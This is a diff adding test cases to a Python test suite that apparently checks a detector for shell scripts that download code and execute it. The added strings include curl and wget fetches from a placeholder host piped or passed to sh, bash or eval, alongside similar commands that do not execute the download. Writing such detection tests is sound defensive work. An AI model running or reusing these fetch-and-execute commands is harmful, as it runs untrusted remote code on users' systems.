@@ -32,6 +32,10 @@ def script(text: str) -> Script:
         'sh -c "$(curl -fsSL https://a.example/i)"',
         "if true; then curl https://a.example/i | sh; fi",
         "sudo sh -c 'curl https://a.example/i | sh'",
+        'code=$(curl -s https://a.example/i)\neval "$code"',
+        'code="$(wget -qO- https://a.example/i)" && bash -c "$code" -- -y',
+        'code=$(curl -s https://a.example/i); echo "$code" | sh',
+        'code=$(curl -s https://a.example/i)\nbash <<< "$code"',
     ],
 )
 def test_download_that_is_run(text: str) -> None:
@@ -52,6 +56,9 @@ def test_download_that_is_run(text: str) -> None:
         "cat install.sh | bash",
         'eval "$(ssh-agent -s)"',
         "bash <(cat x)",
+        'version=$(curl -s https://a.example/latest)\nsh -c "install tool@$version"',
+        'code=$(cat x); eval "$code"',
+        'code=$(curl -s https://a.example/i)\necho "$code" | jq .',
     ],
 )
 def test_download_that_is_not_run(text: str) -> None:
